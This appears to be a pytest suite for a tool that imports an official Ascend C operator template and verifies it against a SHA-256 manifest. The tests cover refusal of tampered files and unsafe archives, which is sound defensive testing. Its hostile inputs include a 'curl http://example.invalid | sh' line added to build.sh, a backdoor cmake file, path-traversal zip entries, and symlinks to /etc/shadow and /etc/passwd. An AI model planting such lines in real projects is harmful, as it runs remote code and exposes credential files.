"""Official template import: the fixed files verified against the shipped SHA-256 manifest,
the layout against operator.toml's `[ascendc]`, all or nothing; a team's project refreshed and a
frozen candidate laid out on it without touching an editable file.

The zips are built here from the stand-in template (tests/fixtures/official_template/), the way
the organisers' zip would arrive: everything under one top-level folder.
"""

from __future__ import annotations

import json
import os
import shutil
import stat
import subprocess
import sys
import zipfile
from collections.abc import Sequence
from pathlib import Path

import pytest

from justkernel.official_template import (
    TemplateImportError,
    describe,
    import_template,
    lay_out,
    load_manifest,
    manifest_path,
    refresh_project,
)
from justkernel.operators import load_operator
from justkernel.toolchains.tree import check_tree, tree_hash

ROOT = Path(__file__).resolve().parent.parent
TEMPLATE = ROOT / "tests" / "fixtures" / "official_template" / "confusion_mul_grad"
TOOL = ROOT / "tools" / "import_official_template.py"
KERNEL = "op_kernel/confusion_mul_grad.cpp"
HOST = "op_host/confusion_mul_grad.cpp"
ASCENDC = load_operator().ascendc_target()  # the lab's Ascend C project and its path policy


def files_of(folder: Path) -> dict[str, bytes]:
    return {rel: (folder / rel).read_bytes() for rel in describe(folder)}


def make_zip(
    path: Path,
    files: dict[str, bytes],
    *,
    top: str = "ConfusionMulGrad",
    raw: Sequence[tuple[zipfile.ZipInfo, bytes]] = (),
) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for rel, data in files.items():
            info = zipfile.ZipInfo(f"{top}/{rel}" if top else rel)
            info.external_attr = (stat.S_IFREG | (0o755 if rel.endswith(".sh") else 0o644)) << 16
            z.writestr(info, data)
        for info, data in raw:
            z.writestr(info, data)
    return path


@pytest.fixture
def good_zip(tmp_path: Path) -> Path:
    return make_zip(tmp_path / "official.zip", files_of(TEMPLATE))


def dest_in(tmp_path: Path) -> Path:
    return tmp_path / "data" / "templates" / "confusion_mul_grad"


def leftovers(parent: Path) -> list[str]:
    return sorted(p.name for p in parent.iterdir() if p.name.startswith("."))


def fixed(files: dict[str, object]) -> set[str]:
    return {rel for rel in files if ASCENDC.paths.access(rel) != "editable"}


def test_the_shipped_manifest_lists_exactly_the_fixed_files_of_the_ascendc_layout() -> None:
    manifest = load_manifest(manifest_path())
    assert manifest.name == "confusion_mul_grad"
    template = describe(TEMPLATE)
    assert manifest.files == {rel: template[rel] for rel in fixed(template)}
    assert sorted(manifest.files) == [
        "CMakeLists.txt",
        "CMakePresets.json",
        "build.sh",
        "examples/CMakeLists.txt",
        "examples/test_aclnn_confusion_mul_grad.cpp",
        "op_host/CMakeLists.txt",
        "op_kernel/CMakeLists.txt",
    ]
    target = load_operator().ascendc
    assert target is not None and manifest.layout is not None
    layout = manifest.layout
    assert (layout.editable, layout.forbidden) == (target.editable, target.forbidden)
    assert set(layout.required) == {target.kernel_source, target.host_source, target.tiling_header}
    assert (layout.host_source, layout.kernel_source) == (target.host_source, target.kernel_source)
    assert (layout.op_type, layout.kernel_entry) == (target.op_type, target.kernel_entry)
    probes = [*template, "op_host/new_helper.h", "op_kernel/sub/x.cpp", "cmake/util.cmake"]
    for rel in probes:  # the manifest's glob copy classifies as operators.PathPolicy does
        assert layout.is_editable(rel) == (ASCENDC.paths.access(rel) == "editable"), rel
    lab = describe(ASCENDC.project_dir, project=True)  # the lab's project has the same build
    assert {rel: lab[rel] for rel in fixed(lab)} == manifest.files
    assert "--write-manifest" in manifest.header and "stand-in" in manifest.header


def test_a_verified_zip_is_imported_whole(tmp_path: Path, good_zip: Path) -> None:
    dest = dest_in(tmp_path)
    result = import_template(good_zip, dest, load_manifest(manifest_path()))
    assert (result.dest, result.files, result.replaced) == (dest, 10, False)
    assert files_of(dest) == files_of(TEMPLATE)
    assert os.access(dest / "build.sh", os.X_OK) and not os.access(dest / KERNEL, os.X_OK)
    assert leftovers(dest.parent) == []  # the staging folder is gone
    again = import_template(TEMPLATE, dest, load_manifest(manifest_path()))  # a folder works too
    assert again.replaced and files_of(dest) == files_of(TEMPLATE)


def test_missing_extra_and_altered_fixed_files_are_named_and_nothing_is_imported(
    tmp_path: Path,
) -> None:
    files = files_of(TEMPLATE)
    files["build.sh"] = files["build.sh"].replace(b"set -e", b"set +e")
    del files["examples/CMakeLists.txt"]
    files["cmake/backdoor.cmake"] = b"execute_process(COMMAND id)\n"
    dest = dest_in(tmp_path)
    with pytest.raises(TemplateImportError) as err:
        import_template(make_zip(tmp_path / "bad.zip", files), dest, load_manifest(manifest_path()))
    problems = err.value.problems
    assert problems[0] == "missing examples/CMakeLists.txt"
    assert problems[1] == "extra cmake/backdoor.cmake"
    assert problems[2].startswith("altered build.sh (sha256 ")
    assert len(problems) == 3
    assert not dest.exists() and leftovers(dest.parent) == []


def test_the_sample_sources_are_not_hashed_but_the_build_files_are(tmp_path: Path) -> None:
    files = files_of(TEMPLATE)
    files[KERNEL] = files[KERNEL].replace(b"BUFFER_NUM = 2", b"BUFFER_NUM = 1")  # a new sample
    files["op_host/helper.h"] = b"#pragma once\n"
    files["op_kernel/CMakeLists.txt"] += b"# changed\n"  # forbidden: msopgen's, fixed
    dest = dest_in(tmp_path)
    manifest = load_manifest(manifest_path())
    with pytest.raises(TemplateImportError) as err:
        import_template(make_zip(tmp_path / "a.zip", files), dest, manifest)
    assert [p.split(" (")[0] for p in err.value.problems] == ["altered op_kernel/CMakeLists.txt"]
    files["op_kernel/CMakeLists.txt"] = files_of(TEMPLATE)["op_kernel/CMakeLists.txt"]
    result = import_template(make_zip(tmp_path / "b.zip", files), dest, manifest)
    assert result.files == 11 and files_of(dest) == files


@pytest.mark.parametrize(
    ("change", "problem"),
    [
        (
            {"drop": HOST},
            "missing op_host/confusion_mul_grad.cpp (a source of ConfusionMulGrad the "
            "project needs)",
        ),
        (
            {"drop": "op_host/confusion_mul_grad_tiling.h"},
            "missing op_host/confusion_mul_grad_tiling.h (a source of ConfusionMulGrad the "
            "project needs)",
        ),
        (
            {"replace": (HOST, b"OP_ADD(ConfusionMulGrad)", b"OP_ADD(AddCustom)")},
            "op_host/confusion_mul_grad.cpp registers AddCustom, not OP_ADD(ConfusionMulGrad): "
            "another operator's template",
        ),
        (
            {"replace": (KERNEL, b"void confusion_mul_grad(", b"void add_custom(")},
            "op_kernel/confusion_mul_grad.cpp defines no __aicore__ kernel confusion_mul_grad()",
        ),
    ],
)
def test_a_template_of_another_layout_or_operator_is_refused(
    tmp_path: Path, change: dict[str, object], problem: str
) -> None:
    files = files_of(TEMPLATE)
    if "drop" in change:
        del files[str(change["drop"])]
    else:
        rel, old, new = change["replace"]  # type: ignore[misc]
        assert old in files[rel]
        files[rel] = files[rel].replace(old, new)
    dest = dest_in(tmp_path)
    with pytest.raises(TemplateImportError) as err:
        import_template(make_zip(tmp_path / "x.zip", files), dest, load_manifest(manifest_path()))
    assert err.value.problems == [problem]
    assert not dest.exists() and leftovers(dest.parent) == []


def team_project(tmp_path: Path) -> Path:
    """A team's Ascend C workspace: the lab's project with edited and added editable files."""
    project = tmp_path / "team"
    shutil.copytree(ASCENDC.project_dir, project)
    (project / KERNEL).write_bytes((project / KERNEL).read_bytes() + b"// tuned by team-a\n")
    (project / "op_host" / "ladder_config.h").write_bytes(b"#define DEPTH 2\n")
    return project


def editable_bytes(project: Path) -> dict[str, bytes]:
    return {rel: data for rel, data in files_of(project).items() if rel not in fixed({rel: 0})}


def test_refresh_writes_the_fixed_files_and_never_an_editable_one(tmp_path: Path) -> None:
    manifest = load_manifest(manifest_path())
    project = team_project(tmp_path)
    owned = editable_bytes(project)
    (project / "build.sh").write_bytes(b"#!/bin/bash\necho stale\n")  # an old or tampered copy
    (project / "op_kernel" / "CMakeLists.txt").unlink()
    (project / "stale.cmake").write_bytes(b"# left over\n")
    (project / "build_out").mkdir()  # a build folder is not part of the project
    (project / "build_out" / "x.o").write_bytes(b"\0")
    done = refresh_project(TEMPLATE, project, manifest)
    assert done.written == ("build.sh", "op_kernel/CMakeLists.txt")
    assert done.removed == ("stale.cmake",)
    assert set(done.kept) == set(owned)
    assert editable_bytes(project) == owned  # byte for byte
    for rel, entry in manifest.files.items():
        assert describe(project)[rel] == entry, rel
    assert os.access(project / "build.sh", os.X_OK) and (project / "build_out" / "x.o").exists()
    tree = check_tree(project, ASCENDC)
    assert tree.ok and tree.editable == {r: describe(project)[r].sha256 for r in owned}


def test_refresh_refuses_another_operator_and_changes_nothing(tmp_path: Path) -> None:
    manifest = load_manifest(manifest_path())
    project = team_project(tmp_path)
    (project / "build.sh").write_bytes(b"#!/bin/bash\necho stale\n")
    host = project / HOST
    host.write_bytes(host.read_bytes().replace(b"OP_ADD(ConfusionMulGrad)", b"OP_ADD(Other)"))
    before = files_of(project)
    with pytest.raises(TemplateImportError, match="is not a confusion_mul_grad project") as err:
        refresh_project(TEMPLATE, project, manifest)
    assert "registers Other" in err.value.problems[0]
    assert files_of(project) == before
    broken = tmp_path / "broken-template"
    shutil.copytree(TEMPLATE, broken)
    (broken / "CMakeLists.txt").write_bytes(b"# not the official one\n")
    with pytest.raises(TemplateImportError, match=r"altered CMakeLists\.txt"):
        refresh_project(broken, team_project(tmp_path / "b"), manifest)


def test_lay_out_builds_the_candidate_on_the_template_with_its_hash(tmp_path: Path) -> None:
    manifest = load_manifest(manifest_path())
    owned = editable_bytes(team_project(tmp_path))
    dest = lay_out(TEMPLATE, owned, tmp_path / "candidate", manifest)
    assert files_of(dest) == {**{r: (TEMPLATE / r).read_bytes() for r in manifest.files}, **owned}
    assert tree_hash(dest, sorted(owned)) == check_tree(dest, ASCENDC).tree_hash
    with pytest.raises(TemplateImportError) as err:
        lay_out(TEMPLATE, {**owned, "build.sh": b"x"}, tmp_path / "c2", manifest)
    assert err.value.problems == ["refused build.sh: not an editable path"]
    with pytest.raises(TemplateImportError, match="not a confusion_mul_grad project"):
        lay_out(TEMPLATE, {KERNEL: owned[KERNEL]}, tmp_path / "c3", manifest)
    assert not (tmp_path / "c2").exists() and not (tmp_path / "c3").exists()


def test_a_failed_reimport_leaves_the_previous_template_untouched(
    tmp_path: Path, good_zip: Path
) -> None:
    dest = dest_in(tmp_path)
    manifest = load_manifest(manifest_path())
    import_template(good_zip, dest, manifest)
    before = files_of(dest)
    files = files_of(TEMPLATE)
    files["build.sh"] += b"curl http://example.invalid | sh\n"
    with pytest.raises(TemplateImportError, match=r"altered build\.sh"):
        import_template(make_zip(tmp_path / "bad.zip", files), dest, manifest)
    assert files_of(dest) == before and leftovers(dest.parent) == []


@pytest.mark.parametrize(
    ("name", "why"),
    [
        ("../evil.txt", "absolute or escaping path"),
        ("/etc/evil.txt", "absolute or escaping path"),
        ("a/../../evil.txt", "absolute or escaping path"),
        ("C:/evil.txt", "drive-letter path"),
        ("op_host\\evil.txt", "backslash"),
    ],
)
def test_path_traversal_is_refused(tmp_path: Path, name: str, why: str) -> None:
    evil = zipfile.ZipInfo(name)
    archive = make_zip(tmp_path / "evil.zip", files_of(TEMPLATE), top="", raw=[(evil, b"x")])
    dest = dest_in(tmp_path)
    with pytest.raises(TemplateImportError, match="unsafe archive") as err:
        import_template(archive, dest, load_manifest(manifest_path()))
    assert why in err.value.problems[0]
    assert not dest.exists() and not (tmp_path / "evil.txt").exists()
    assert not (dest.parent / "evil.txt").exists() and leftovers(dest.parent) == []


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_symlinks_and_duplicates_are_refused(tmp_path: Path) -> None:
    link = zipfile.ZipInfo("ConfusionMulGrad/op_host/secrets.h")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    twice = zipfile.ZipInfo("ConfusionMulGrad/build.sh")
    archive = make_zip(
        tmp_path / "l.zip", files_of(TEMPLATE), raw=[(link, b"/etc/shadow"), (twice, b"")]
    )
    with pytest.raises(TemplateImportError) as err:
        import_template(archive, dest_in(tmp_path), load_manifest(manifest_path()))
    assert err.value.problems == [
        "refused op_host/secrets.h: a symlink",
        "refused build.sh: appears twice",
    ]
    folder = tmp_path / "unpacked"
    folder.mkdir()
    for rel, data in files_of(TEMPLATE).items():
        (folder / rel).parent.mkdir(parents=True, exist_ok=True)
        (folder / rel).write_bytes(data)
    (folder / "op_host" / "link.h").symlink_to("/etc/passwd")
    with pytest.raises(TemplateImportError, match=r"refused op_host/link\.h: a symlink"):
        import_template(folder, dest_in(tmp_path), load_manifest(manifest_path()))
    assert not dest_in(tmp_path).exists()


def test_not_a_zip_and_a_bad_manifest(tmp_path: Path) -> None:
    junk = tmp_path / "junk.zip"
    junk.write_bytes(b"not a zip")
    with pytest.raises(TemplateImportError, match="cannot read the zip"):
        import_template(junk, dest_in(tmp_path), load_manifest(manifest_path()))
    bad = tmp_path / "manifest.json"
    bad.write_text(json.dumps({"format": "justkernel.template_manifest/1", "files": {"../x": {}}}))
    with pytest.raises(TemplateImportError, match="malformed 'files'"):
        load_manifest(bad)
    bad.write_text("{}")
    with pytest.raises(TemplateImportError, match=r"not a justkernel\.template_manifest/1"):
        load_manifest(bad)


def tool(*args: str, data_dir: Path) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "JUSTKERNEL_DATA_DIR": str(data_dir)}
    return subprocess.run(
        [sys.executable, str(TOOL), *args], capture_output=True, text=True, env=env, timeout=60
    )


def test_tool_without_a_zip_explains_where_to_get_it(tmp_path: Path) -> None:
    done = tool(data_dir=tmp_path / "data")
    assert done.returncode == 2
    assert "never downloads" in done.stderr and "--zip PATH" in done.stderr
    assert not (tmp_path / "data").exists()


def test_tool_imports_into_the_data_folder_and_reports_failures(
    tmp_path: Path, good_zip: Path
) -> None:
    data = tmp_path / "data"
    done = tool("--zip", str(good_zip), data_dir=data)
    assert done.returncode == 0, done.stderr
    assert "imported" in done.stdout and "10 files verified" in done.stdout
    assert files_of(data / "templates" / "confusion_mul_grad") == files_of(TEMPLATE)
    files = files_of(TEMPLATE)
    files["CMakePresets.json"] += b"\n"
    bad = tool("--zip", str(make_zip(tmp_path / "bad.zip", files)), data_dir=data)
    assert bad.returncode == 1
    assert "altered CMakePresets.json" in bad.stderr and "nothing was imported" in bad.stderr
    project = team_project(tmp_path)
    owned = editable_bytes(project)
    (project / "CMakeLists.txt").write_bytes(b"# stale\n")
    done = tool("--into", str(project), data_dir=data)  # the template imported above
    assert done.returncode == 0, done.stderr
    assert "1 fixed files written, 0 removed, 4 editable files untouched" in done.stdout
    assert editable_bytes(project) == owned
    assert (project / "CMakeLists.txt").read_bytes() == (TEMPLATE / "CMakeLists.txt").read_bytes()


def test_write_manifest_regenerates_from_a_zip_and_keeps_the_header(
    tmp_path: Path, good_zip: Path
) -> None:
    out = tmp_path / "manifest.json"
    out.write_text(manifest_path().read_text())
    files = files_of(TEMPLATE)
    files["cmake/util/makeself.sh"] = b"#!/bin/sh\n"  # a newer official template, say
    newer = make_zip(tmp_path / "newer.zip", files)
    done = tool("--zip", str(newer), "--write-manifest", "--manifest", str(out), data_dir=tmp_path)
    assert done.returncode == 0, done.stderr
    written = load_manifest(out)
    assert written.header == load_manifest(manifest_path()).header
    assert set(written.files) == fixed(files) and written.extra["source"] == "newer.zip"
    assert "cmake/util/makeself.sh" in written.files and written.layout is not None
    assert len(written.extra["source_sha256"]) == 64
    assert import_template(newer, dest_in(tmp_path), written).files == 11
    files[HOST] = files[HOST].replace(b"OP_ADD(ConfusionMulGrad)", b"OP_ADD(AddCustom)")
    other = make_zip(tmp_path / "other.zip", files)
    done = tool("--zip", str(other), "--write-manifest", "--manifest", str(out), data_dir=tmp_path)
    assert done.returncode == 1 and "registers AddCustom" in done.stderr
    assert load_manifest(out) == written  # untouched


def test_tool_candidate_needs_a_destination_and_names_an_unknown_one(tmp_path: Path) -> None:
    usage = subprocess.run(
        [sys.executable, str(TOOL), "--candidate", "run-1/cand-x"],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert usage.returncode == 2 and "--candidate needs --into DEST" in usage.stderr
    data = tmp_path / "data"
    assert tool("--folder", str(TEMPLATE), data_dir=data).returncode == 0
    done = tool("--candidate", "run-1/cand-x", "--into", str(tmp_path / "out"), data_dir=data)
    assert done.returncode == 1
    assert "no candidate cand-x" in done.stderr and "nothing was imported or changed" in done.stderr
    assert not (tmp_path / "out").exists()
